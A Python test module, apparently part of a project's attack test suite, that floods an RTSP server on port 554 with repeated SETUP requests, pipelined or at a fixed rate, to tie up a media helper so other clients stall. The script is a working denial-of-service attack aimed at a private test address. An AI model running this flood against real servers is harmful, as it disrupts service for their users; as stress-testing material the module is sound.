"""The same SETUPs again and again, of ports that the attacker may ask for: pipelined, or at a steady rate.

It hopes that each costs the helper so much that other boxes wait behind them.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator

from tests.attacks import wire
from tests.attacks.packet import setup


def attack(
    _wire: wire.Wire,
    server: str = "172.26.83.10",
    port: int = 30000,
    ports: int = 4,
    pipelined: int = 0,
    rate: float = 500.0,
    seconds: float = 2.0,
) -> int:
    sent = 0
    with (
        contextlib.suppress(OSError),  # the server does not answer, or has hung up
        socket.create_connection((server, 554), 5) as connection,
    ):
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=_read, args=(connection,), daemon=True).start()
        for number in _asked(connection, pipelined, port, ports, rate, seconds):
            sent = number
    return sent


def _asked(
    connection: socket.socket, pipelined: int, port: int, ports: int, rate: float, seconds: float
) -> Iterator[int]:
    """Ask, and yield how often."""
    if pipelined:
        connection.sendall(b"".join(setup(port + number % ports, number) for number in range(pipelined)))
        for _ in wire.pace(10, seconds):  # the connection stays: its end would end the work
            yield pipelined
    else:
        for number in wire.pace(rate, seconds):
            connection.sendall(setup(port + number % ports, number))
            yield number + 1


def _read(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


if __name__ == "__main__":
    wire.run(attack)
